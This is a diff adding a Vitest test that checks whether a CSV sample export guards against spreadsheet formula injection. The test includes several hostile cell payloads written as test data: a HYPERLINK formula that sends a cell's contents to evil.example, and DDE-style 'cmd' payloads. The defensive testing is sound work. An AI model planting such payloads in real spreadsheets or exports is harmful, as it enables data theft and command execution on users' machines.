@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import type { UserCaller } from "@/lib/auth/caller";
 import type { Database } from "@/lib/platform/db";
@@ -348,6 +349,50 @@ describe(`sample export and import round trip (${databaseTier()})`, () => {
     expect(result.created).toBe(4);
     const copy = await stored("2026-RT2");
     expect(copy).toEqual(original);
+  });
+
+  it("guards cells a spreadsheet would run as formulas, keeps plain numbers, and reads its guards back", async () => {
+    await createProposal(ada, { proposalId: "2026-RT3", title: "Formula injection" });
+    await createTray(ada, "2026-RT3", { trayId: "RT-F", name: "Formulas", rows: 1, columns: 8 });
+    const dangerous = {
+      hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+      command: "+cmd|' /C calc'!A0",
+      at: "@SUM(1+1)*cmd|' /C calc'!A0",
+      minus: "-2+3+cmd|' /C calc'!A0",
+    };
+    const text = [
+      "specimenName,specimenId,trayId,description,metadata.formula,metadata.negative,metadata.exponent",
+      ["Injected", "RT-F1", "RT-F", dangerous.hyperlink, dangerous.command, "-2", "-1.5e3"]
+        .map((cell) => `"${cell.replaceAll('"', '""')}"`)
+        .join(","),
+      `"${dangerous.at.replaceAll('"', '""')}",RT-F2,RT-F,"${dangerous.minus}",,,`,
+    ].join("\n");
+    await importAs(ada, text, "2026-RT3");
+
+    const csv = await exportSamplesCsv(ada, "2026-RT3");
+    const cells = Papa.parse<string[]>(csv.replace("\uFEFF", ""), { skipEmptyLines: true }).data.flat();
+    for (const value of Object.values(dangerous)) {
+      expect(cells).not.toContain(value);
+      expect(cells).toContain(`'${value}`);
+    }
+    // A cell that a spreadsheet would evaluate starts with one of these; none may, but plain numbers.
+    const evaluated = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(evaluated.sort()).toEqual(["-1500", "-2"]);
+
+    const before = await database.prisma.sample.findMany({
+      where: { proposal: { proposalId: "2026-RT3" } },
+      orderBy: { specimenId: "asc" },
+      select: { specimenId: true, specimenName: true, description: true, metadata: true },
+    });
+    expect(before[0]).toMatchObject({
+      description: dangerous.hyperlink,
+      metadata: { formula: dangerous.command, negative: -2, exponent: -1500 },
+    });
+    const preview = await previewSampleImport(ada, "2026-RT3", csv);
+    const reread = preview.rows.map((row) => row.values);
+    expect(reread.map((sample) => sample.description)).toEqual([dangerous.hyperlink, dangerous.minus]);
+    expect(reread.map((sample) => sample.specimenName)).toEqual(["Injected", dangerous.at]);
+    expect(reread[0].metadata).toEqual({ formula: dangerous.command, negative: -2, exponent: -1500 });
   });
 
   it("serves the CSV as a download, to sessions and API tokens that may read samples", async () => {
